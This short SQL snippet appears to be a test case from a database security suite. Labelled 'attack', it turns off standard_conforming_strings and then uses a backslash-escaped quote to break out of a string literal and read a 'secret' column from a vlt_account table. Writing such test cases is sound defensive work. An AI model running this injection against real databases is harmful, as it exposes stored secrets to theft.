-- Turns the standard meaning of backslashes off by set_config.
-- wants: read
-- attack:
SELECT set_config('standard_conforming_strings', 'off', false);
-- together
SELECT 'a\'', secret FROM vlt_account --'
